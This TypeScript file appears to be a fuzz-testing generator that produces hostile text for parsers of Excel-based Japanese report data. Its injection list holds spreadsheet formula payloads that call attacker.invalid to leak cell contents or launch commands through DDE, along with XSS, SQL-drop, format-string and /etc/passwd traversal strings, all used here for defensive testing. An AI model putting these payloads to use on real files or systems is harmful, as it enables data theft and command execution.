import type { Random } from "./random";

/** The longest text that an Excel cell can hold. */
export const LONGEST_TEXT = 32_767;

/** Pieces that the readers of periods, targets, sub-items and reports look for: repeated, they find backtracking. */
const LOADED = [
  "(1)", "（１）", "⑴", "①", "1.", "(1)～", "(1)(2)", "～", "~", "-", "、", "・", "。", "\n", " ", "　", "月", "3月", "年度", "令和", "令和2年度", "平成", "R2.", "H25.", "9", "1,", "１", "一二三", "億", "万",
  "千", ".", "%", "％", "約", "以上", "以下", "人", "件", "100人", "12か所", "(", "（", ")", "）", "「", "」", "中間報告のとおり", "達成", "未達成", "見送り", "できなかった", "検討中", "から", "まで", "末", "上旬",
  "⇒", "→", "のうち", "241組織のうち57組織", "通年", "随時", "第", "編", "章", "節", "位", "=", "ー", "〜", "－",
];

const INJECTIONS = [
  "=HYPERLINK(\"http://attacker.invalid/?\"&A1,\"開く\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "=WEBSERVICE(\"http://attacker.invalid\")",
  "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>", "]]><x>", "<!--", "&lt;b&gt;&amp;#x41;", "javascript:alert(1)", "${7*7}{{7*7}}", "'; DROP TABLE rows; --", "%s%n%x", "../../../../etc/passwd",
  "__proto__", "constructor", "toString", "null", "undefined", "NaN", "Infinity", "-0", "1e999", "0x1F", "true",
];

const STRANGE = [
  "\u202E逆向き\u202C", "\u2066\u2067\u2068\u2069", "\u200B\u200C\u200D\uFEFF", "\u0007\u0008\u001B[31m", "\u0001\u0002\u001F", "\uFFFD\uFFFE\uFFFF", "\uD83D", "\uDE00", "👨‍👩‍👧‍👦", "葛\u{E0100}", "が\u3099\u309A", "Z\u0300\u0301\u0302\u0303", "\u{1F1EF}\u{1F1F5}", "ﷺ", "\u2028\u2029\u0085\u000B\u000C", "_x000D_", "_x0000_", "ㅤ", "＝１＋１", "㋿", "㍿", "½",
];

function repeated(random: Random, length: number): string {
  const unit = Array.from({ length: random.between(1, 4) }, () => random.pick(LOADED)).join("");
  return unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
}

function mixed(random: Random): string {
  const sources = [LOADED, INJECTIONS, STRANGE];
  return Array.from({ length: random.between(1, 60) }, () => random.pick(random.pick(sources))).join("");
}

/** A text that no honest author would type: injections, invisible letters, or a loaded piece up to 32,767 characters. */
export function hostileText(random: Random): string {
  const kind = random.below(10);
  if (kind < 2) return random.pick(INJECTIONS);
  if (kind < 4) return random.pick(STRANGE);
  if (kind < 8) return mixed(random);
  if (kind < 9) return repeated(random, random.between(100, 3_000));
  return repeated(random, LONGEST_TEXT);
}
